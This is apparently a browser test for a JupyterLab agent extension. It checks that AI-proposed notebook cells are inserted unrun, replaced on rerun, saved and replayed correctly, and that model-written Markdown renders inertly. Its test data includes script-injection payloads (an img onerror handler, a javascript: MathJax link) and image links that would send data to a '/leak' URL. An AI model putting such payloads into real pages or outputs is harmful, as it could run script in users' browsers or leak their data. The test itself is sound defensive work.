"""`%%agent --cells` as a user sees it in JupyterLab: the agent cell leaves two proposed cells
below itself, not run; running it again leaves two, not four; the saved notebook holds them with
their mark; a strict replay of the research log after a restart proposes the same cells; a
proposal the user edited or ran is kept when the cell runs again, and Run All, which runs the old
proposals along with the agent cell, does not pile them up; and Markdown the model wrote (an
`<img onerror>`, a MathJax `\\href{javascript:...}`) runs no script.

A real JupyterLab on localhost with the built extension (`make labextension`) and Debian's
Chromium driven by Playwright, as in the sidebar's browser test. Screenshots go to
tests/artifacts/ (ignored by git).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lab_under_test import (
    kernel_idle,
    launch_chromium,
    open_notebook,
    playwright_ready,  # noqa: F401 - a fixture
    run_all_cells,
    running_jupyterlab,
    wait_for,
)
from sidebar_build import need_built_sidebar

from jupyter_deepagent.jupyter.tools.proposed_cells import inert_markdown
from test_inspector_browser import ARTIFACTS

CODE = "total = sum([1, 2, 3])\ntotal"
NOTE = (
    '## The total\nThe sum of the first three numbers. <img src=x onerror="window.__pwned = 1">\n'
    "![chart](http://127.0.0.1:9/leak?d=total)\n"  # would send the server what the model put in it
    "See $\\href{javascript:window.__pwned=2}{\\text{the sum}}$.\n\n"  # JupyterLab's MathJax drops it
    # a Mermaid image node would load as soon as JupyterLab drew the diagram: shown as its source
    '```mermaid\nflowchart TD\n  A@{ img: "http://127.0.0.1:9/leak?d=diagram", w: 60, h: 60 }\n```\n'
)
SHOWN_NOTE = inert_markdown(NOTE)  # as the cell holds it: the image a link, the HTML text
SCRIPT = {
    "name": "scripted-cells",
    "profile": {"max_input_tokens": 64000},
    "script": [
        {"tool_calls": [
            {"name": "propose_cell", "args": {"kind": "code", "source": CODE}},
            {"name": "propose_cell", "args": {"kind": "markdown", "source": NOTE}},
        ]},
        "Two cells are below: the total, and a note on it.",
    ],
}
RAN_AND_EDITED_KEPT = [CODE, SHOWN_NOTE, CODE, "total = sum([1, 2, 3, 4])"]
"""The proposals once the user ran one and edited another, and the agent cell ran again: the two
new ones, then the one run (with its output) and the one edited."""
SILENT = {"name": "scripted-cells", "profile": {"max_input_tokens": 64000}, "script": []}
"""The same model with nothing to say: a strict replay must not ask it."""


def _code(cell_id: str, source: str) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "id": cell_id, "metadata": {},
            "outputs": [], "source": source}


NOTEBOOK = {
    "cells": [
        _code("load", "%load_ext jupyter_deepagent"),
        _code("config", "%agent config model=scripted:scripts/cells.json"),
        _code("agent", "%%agent --cells\nPropose the total of 1, 2 and 3 as cells."),
        _code("after", "after = True"),
    ],
    "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python",
                                "name": "python3"}},
    "nbformat": 4,
    "nbformat_minor": 5,
}


@pytest.fixture
def lab(tmp_path: Path, playwright_ready: None) -> Iterator[tuple[str, Path]]:  # noqa: F811
    """JupyterLab with the built extension on a folder holding the notebook and its scripts."""
    built = need_built_sidebar()
    root = tmp_path / "lab"
    (root / "scripts").mkdir(parents=True)
    (root / "cells.ipynb").write_text(json.dumps(NOTEBOOK))
    (root / "scripts" / "cells.json").write_text(json.dumps(SCRIPT))
    (root / "scripts" / "silent.json").write_text(json.dumps(SILENT))
    jupyter_path = tmp_path / "jupyter"
    (jupyter_path / "labextensions").mkdir(parents=True)
    (jupyter_path / "labextensions" / "jupyter-deepagent").symlink_to(built)
    with running_jupyterlab(
        root, tmp_path, env={"JUPYTER_PATH": str(jupyter_path)},
        args=("--LabApp.expose_app_in_browser=True",),
    ) as url:
        yield url, root


CELLS = (
    "() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells"
    ".map(c => c.toJSON())"
)


def _cells(page: Any) -> list[dict[str, Any]]:
    """The open notebook's cells as nbformat dicts."""
    return page.evaluate(CELLS)


def _source(cell: dict[str, Any]) -> str:
    source = cell["source"]
    return source if isinstance(source, str) else "".join(source)


def _proposed(cells: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [c for c in cells if "proposed_by" in c["metadata"].get("jupyter_deepagent", {})]


def _run_cell(page: Any, index: int) -> None:
    """Run the open notebook's cell `index` (as Shift+Enter would) and wait for the kernel."""
    page.evaluate(
        "(i) => { const nb = window.jupyterapp.shell.currentWidget.content;"
        " nb.deselectAll(); nb.activeCellIndex = i;"
        " void window.jupyterapp.commands.execute('notebook:run-cell'); }",
        index,
    )
    page.wait_for_timeout(1000)
    wait_for(lambda: kernel_idle(page), 120, "the cell to run")
    page.wait_for_timeout(500)  # `executed` fires once the reply is in: the insert follows


def _assert_two_proposals_below_the_agent_cell(cells: list[dict[str, Any]]) -> None:
    assert [c["id"] for c in cells[:3]] == ["load", "config", "agent"]
    assert cells[-1]["id"] == "after"
    proposed = cells[3:-1]
    assert [(c["cell_type"], _source(c)) for c in proposed] == [
        ("code", CODE),
        ("markdown", SHOWN_NOTE),
    ]
    marks = [c["metadata"]["jupyter_deepagent"] for c in proposed]
    assert [(m["proposed_by"], m["index"]) for m in marks] == [("agent", 0), ("agent", 1)]
    code = proposed[0]
    assert code["execution_count"] is None and code["outputs"] == []  # not run


@pytest.mark.allow_hosts(["127.0.0.1"])
def test_an_agent_cell_with_cells_leaves_two_proposals_that_a_rerun_replaces(
    lab: tuple[str, Path],
) -> None:
    from playwright.sync_api import expect, sync_playwright

    url, root = lab
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        browser = launch_chromium(p)
        page = None
        try:
            page = browser.new_page(viewport={"width": 1300, "height": 2400})
            fetched: list[str] = []
            page.on("request", lambda request: fetched.append(request.url))
            open_notebook(page, url, "cells.ipynb")
            run_all_cells(page, 120)
            wait_for(lambda: len(_cells(page)) == 6, 20, "two cells proposed below the agent cell")
            cells = _cells(page)
            _assert_two_proposals_below_the_agent_cell(cells)
            assert page.evaluate("() => window.__pwned") is None
            assert not [u for u in fetched if "/leak" in u], "a proposed cell loaded an image"
            rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
            expect(rendered.locator("mjx-container")).to_have_count(1)  # the math was typeset
            expect(rendered.locator("[href^='javascript' i]")).to_have_count(0)
            expect(rendered.locator("pre")).to_contain_text("A@{ img:")  # the diagram's source
            expect(rendered.locator(".jp-RenderedMermaid")).to_have_count(0)
            rendered.locator("mjx-container").click()
            assert page.evaluate("() => window.__pwned") is None
            note = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-deepagent-proposals")
            expect(note).to_have_text("The agent proposed 2 cells, inserted below (not run).")
            # the kernel ran the cell after them, but none of them
            shown = page.locator(".jp-Notebook .jp-Cell").nth(3)
            expect(shown.locator(".jp-InputArea-prompt")).to_have_text("[ ]:")
            page.screenshot(path=str(ARTIFACTS / "proposed-cells.png"))

            # running the agent cell again replaces them: two, not four
            _run_cell(page, 2)
            wait_for(lambda: kernel_idle(page), 60, "the re-run")
            cells = _cells(page)
            assert len(cells) == 6, [_source(c)[:30] for c in cells]
            _assert_two_proposals_below_the_agent_cell(cells)

            # saved, the notebook holds them with their mark
            page.evaluate("() => window.jupyterapp.shell.currentWidget.context.save()")
            wait_for(
                lambda: len(json.loads((root / "cells.ipynb").read_text())["cells"]) == 6,
                30, "the notebook to be saved",
            )
            saved = json.loads((root / "cells.ipynb").read_text())["cells"]
            _assert_two_proposals_below_the_agent_cell(saved)
            assert saved[2]["outputs"], "the agent cell's output is saved with it"

            # a restart, then a strict replay of the research log with a model that says
            # nothing: the same two cells, replaced in place
            page.evaluate(
                "() => { const nb = window.jupyterapp.shell.currentWidget.content;"
                " nb.model.sharedModel.cells[1].setSource("
                "'%agent config model=scripted:scripts/silent.json replay=strict'); }"
            )
            page.evaluate(
                "() => { void window.jupyterapp.commands.execute('notebook:restart-kernel'); }"
            )
            page.locator(".jp-Dialog .jp-mod-accept").click()
            page.wait_for_timeout(2000)
            wait_for(lambda: kernel_idle(page), 60, "the kernel to restart")
            run_all_cells(page, 120)
            header = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-OutputArea")
            expect(header).to_contain_text("replayed", timeout=20_000)
            expect(header).not_to_contain_text("Error")
            _assert_two_proposals_below_the_agent_cell(_cells(page))
            page.screenshot(path=str(ARTIFACTS / "proposed-cells-replayed.png"))

            # a proposal the user edited stays (still marked) when the agent cell runs again
            page.evaluate(
                "() => { const nb = window.jupyterapp.shell.currentWidget.content;"
                " nb.model.sharedModel.cells[3].setSource('total = sum([1, 2, 3, 4])'); }"
            )
            _run_cell(page, 2)
            cells = _cells(page)
            proposed = _proposed(cells)
            assert [_source(c) for c in proposed] == [
                CODE,
                SHOWN_NOTE,
                "total = sum([1, 2, 3, 4])",
            ]
            assert len(cells) == 7
            expect(note).to_contain_text("1 earlier proposal you edited or ran was kept")
            assert page.evaluate("() => window.__pwned") is None
            page.screenshot(path=str(ARTIFACTS / "proposed-cells-edited-kept.png"))

            # a proposal the user ran (Shift+Enter on it) stays too, with its output
            _run_cell(page, 3)
            _run_cell(page, 2)
            cells = _cells(page)
            assert [_source(c) for c in _proposed(cells)] == RAN_AND_EDITED_KEPT
            ran = _proposed(cells)[2]
            assert ran["metadata"]["jupyter_deepagent"]["user_ran"] is True
            assert ran["outputs"][0]["data"]["text/plain"] == "6"
            expect(note).to_contain_text("2 earlier proposals you edited or ran were kept")

            # Run All runs the old proposals along with the agent cell: they are replaced, not
            # kept as run, so two more Run Alls leave the same cells
            for _ in range(2):
                run_all_cells(page, 120)
                wait_for(lambda: kernel_idle(page), 60, "Run All")
                page.wait_for_timeout(500)
                cells = _cells(page)
                assert [_source(c) for c in _proposed(cells)] == RAN_AND_EDITED_KEPT, [
                    _source(c)[:30] for c in cells
                ]
                assert [c["id"] for c in cells[:3]] == ["load", "config", "agent"]
                assert cells[-1]["id"] == "after" and len(cells) == 8
            page.screenshot(path=str(ARTIFACTS / "proposed-cells-ran-kept.png"))
        except BaseException:
            if page is not None:
                page.screenshot(path=str(ARTIFACTS / "proposed-cells-failed.png"))
            raise
        finally:
            browser.close()
